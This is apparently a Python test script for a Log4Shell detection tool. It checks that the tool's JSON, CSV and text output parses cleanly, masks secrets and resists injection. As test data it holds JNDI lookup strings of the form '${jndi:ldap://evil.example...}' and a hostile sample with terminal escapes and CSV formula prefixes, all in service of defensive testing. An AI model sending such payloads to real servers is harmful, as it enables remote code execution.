#!/usr/bin/env python3
"""Do readers that are not ours understand what event writes? json, csv and ipaddress read it; hashlib makes the same ids."""
import csv
import datetime
import hashlib
import io
import ipaddress
import json
import random
import re
import subprocess
import sys

samples = sys.argv[1]


def run(what, stdin=b""):
    return subprocess.run([samples, what], input=stdin, stdout=subprocess.PIPE, check=True).stdout


def harmless(out):
    assert b"${" not in out, out
    text = out.decode("utf-8")
    for c in text:
        assert c == "\n" or (ord(c) >= 0x20 and not 0x7f <= ord(c) < 0xa0 and c not in "\u202e\u200b"), repr(c)
    return text


# What the hostile sample holds, as JSON writes it: a byte that is no UTF-8 becomes the text \xff.
HOSTILE = ("x\0\x1b[2J\r\n,\"=1+1<b>\\xff\u202e\u009b${jndi:ldap://evil.example/a}](http://evil.example){0}")


def check_ecs():
    plain, full, bare, hostile, mail = [json.loads(line) for line in harmless(run("ecs")).splitlines()]
    assert plain["@timestamp"] == "2021-12-10T14:02:07Z" and full["@timestamp"] == "2021-12-10T14:02:07.123456Z"
    datetime.datetime.fromisoformat(full["@timestamp"])
    for e in (plain, full, bare, hostile, mail):
        assert e["event"]["kind"] == "alert" and e["event"]["category"] == ["intrusion_detection"]
        assert e["event"]["type"] == ["info"] and re.fullmatch("[0-9a-f]{32}", e["event"]["id"])
        if "ip" in e.get("source", {}):
            ipaddress.ip_address(e["source"]["ip"])
    assert plain["source"] == {"address": "203.0.113.7", "ip": "203.0.113.7"}
    assert plain["url"] == {"domain": "shop.example", "path": "/"}
    assert plain["http"] == {"request": {"method": "GET"}, "response": {"status_code": 200}}
    assert plain["user_agent"]["original"] == plain["caltrop"]["raw"] == "${jndi:ldap://evil.example:1389/a}"
    assert plain["log"] == {"file": {"path": "/var/log/nginx/access.log"}, "offset": 4096}
    assert plain["vulnerability"]["id"] == ["CVE-2021-44228"]
    own = plain["caltrop"]
    assert own["line"] == 42 and own["grade"] == "exploit" and own["calls"] == 1 and "contacted" not in own
    assert own["indicators"] == [{"scheme": "ldap", "host": "evil.example", "port": 1389, "path": "/a"}]
    assert own["fires"][0] == {"versions": "2.0-beta9-2.14.1", "sink": "message", "setting": ""}
    assert full["vulnerability"]["id"] == ["CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105"]
    assert full["source"] == {"address": "[2001:db8::7]:51000", "ip": "2001:db8::7", "port": 51000}
    assert full["url"]["domain"] == "shop.example" and full["url"]["port"] == 8443
    assert full["url"]["original"] == "/search?session=***&q=%24%7Bjndi%3Aldap%3A//evil.example/a%7D", full["url"]
    assert "hunter2" not in json.dumps(full)
    assert full["caltrop"]["contacted"] is True and full["caltrop"]["condition"] == ["env:USER"]
    assert full["caltrop"]["traits"] == ["leak", "dos"] and full["caltrop"]["chain"] == ["percent", "base64"]
    assert "@timestamp" not in bare and "vulnerability" not in bare and bare["caltrop"]["source"] == "stdin"
    assert "log" not in bare
    assert hostile["caltrop"]["raw"] == HOSTILE and hostile["source"] == {"address": HOSTILE}
    assert hostile["log"]["file"]["path"] == HOSTILE and "response" not in hostile["http"]
    assert mail["source"] == {"address": "mail.evil.example"} and mail["vulnerability"]["id"] == ["CVE-2021-45046"]
    assert "http" not in mail and mail["caltrop"]["status"] == "550"


def check_csv():
    rows = list(csv.DictReader(io.StringIO(harmless(run("csv"))), strict=True))
    assert len(rows) == 5 and all(None not in row and None not in row.values() for row in rows), rows
    plain, full, bare, hostile, mail = rows
    assert plain["line"] == "42" and plain["versions"] == "2.0-beta9-2.14.1; 2.0-beta9-2.14.1" and plain["settings"] == ""
    assert plain["callbacks"] == "ldap evil.example:1389 /a" and plain["vulnerabilities"] == "CVE-2021-44228"
    assert full["callbacks"] == "ldap 127.0.0.1#evil.example:1389 /a?token=***; dns [2001:db8::1]:53", full["callbacks"]
    assert full["contacted"] == "yes" and full["conditions"] == "env:USER" and full["chain"] == "percent; base64"
    assert not any("hunter2" in cell for cell in full.values())
    assert bare["time"] == "" and bare["line"] == "" and mail["status"] == "550"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


def check_text():
    lines = harmless(run("text")).splitlines()
    assert len(lines) == 5
    for line in lines:
        assert not any(bad in line for bad in ("exploited", "://", "evil.example")), line
    assert "would fire on 2.0-beta9-2.14.1" in lines[0] and "evil[.]example" in lines[0]


def check_ids():
    rng = random.Random()
    asked, want = [], []
    for i in range(400):
        source, content = rng.randbytes(rng.randrange(200)), rng.randbytes(i)
        offset = rng.getrandbits(64)
        asked.append(b"%s %d %s\n" % (source.hex().encode(), offset, content.hex().encode()))
        hashed = b"".join((len(source).to_bytes(8, "big"), source, offset.to_bytes(8, "big"), len(content).to_bytes(8, "big"), content))
        want.append(hashlib.blake2b(hashed, digest_size=16).hexdigest())
    assert run("ids", b"".join(asked)).decode().split() == want


check_ecs()
check_csv()
check_text()
check_ids()
print("json, csv and hashlib agree")
